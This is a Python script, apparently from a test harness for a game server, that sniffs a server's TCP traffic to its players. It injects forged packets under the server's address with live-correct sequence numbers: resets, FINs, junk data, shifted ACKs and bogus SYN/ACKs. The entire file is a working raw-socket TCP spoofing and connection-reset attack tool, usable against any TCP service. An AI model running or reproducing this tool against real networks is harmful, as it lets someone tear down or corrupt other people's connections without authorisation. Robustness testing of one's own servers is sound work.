#!/usr/bin/env python3
"""Stands beside the players and speaks in the server's name: listens to what the server sends them, and for it sends
resets, ends, data, acknowledgements and SYN/ACKs from the server's address, with the numbers that are right at that
moment.

  spoofer.py INTERFACE SERVER PORT SERVER_MAC SECONDS

Says {"event": "done", "forged": how many}.
"""

import json
import socket
import struct
import sys
import time

from odd_sender import ack, checksum, fin, psh, rst, syn

pause_s = 0.005  # Between lies about one connection.


def forged(link, server, player, seq, number, flags, data=b""):
    header = struct.pack("!HHIIBBHHH", server[1], player[1], seq & 0xFFFFFFFF, number & 0xFFFFFFFF, 20 << 2, flags, 65535,
                         0, 0)
    pseudo = server[0] + player[0] + struct.pack("!BBH", 0, 6, len(header) + len(data))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header + data)) + header[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(header) + len(data), 0, 0x4000, 64, 6, 0) + server[0] + player[0]
    return link + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + header + data


def main():
    interface, server, port, server_mac, seconds = sys.argv[1:]
    server = (socket.inet_aton(server), int(port))
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    line.bind((interface, 0))
    line.settimeout(0.1)
    own_mac = bytes.fromhex(open(f"/sys/class/net/{interface}/address").read().strip().replace(":", ""))
    link = bytes.fromhex(server_mac.replace(":", "")) + own_mac + b"\x08\x00"
    count, last = 0, {}
    until = time.time() + float(seconds)
    while time.time() < until:
        try:
            frame = line.recv(65536)
        except TimeoutError:
            continue
        if frame[:6] != own_mac or frame[23] != 6 or frame[26:30] != server[0]:
            continue
        at = 14 + (frame[14] & 15) * 4
        sport, dport, seq, number = struct.unpack("!HHII", frame[at:at + 12])
        player = (frame[30:34], dport)
        if sport != server[1] or time.time() - last.get(player, 0) < pause_s:
            continue
        last[player] = time.time()
        said = struct.unpack("!H", frame[16:18])[0] - (at - 14) - (frame[at + 12] >> 4) * 4
        expected = seq + said + (1 if frame[at + 13] & syn else 0)
        lies = [(expected, number, rst, b""), (expected, number, rst | ack, b""),
                (expected, number, psh | ack, b"\xff" * 40), (expected, number + 2000, ack, b""),
                (expected + 40, number, fin | ack, b""), (expected ^ 0x5555, number, syn | ack, b"")]
        for lie in lies:
            line.send(forged(link, server, player, *lie))
        count += len(lies)
    print(json.dumps({"event": "done", "forged": count}), flush=True)


if __name__ == "__main__":
    main()
